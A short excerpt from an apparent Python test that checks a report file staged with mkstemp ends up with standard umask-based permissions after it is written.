    # staged with mkstemp (0600), a report is then readable as any new file: 0666 & ~umask
    mask = os.umask(0o022)
    os.umask(mask)
    (path,) = outputs.write_all(tmp_path, {"results.json": b"{}"})
    assert stat.S_IMODE(path.stat().st_mode) == 0o666 & ~mask
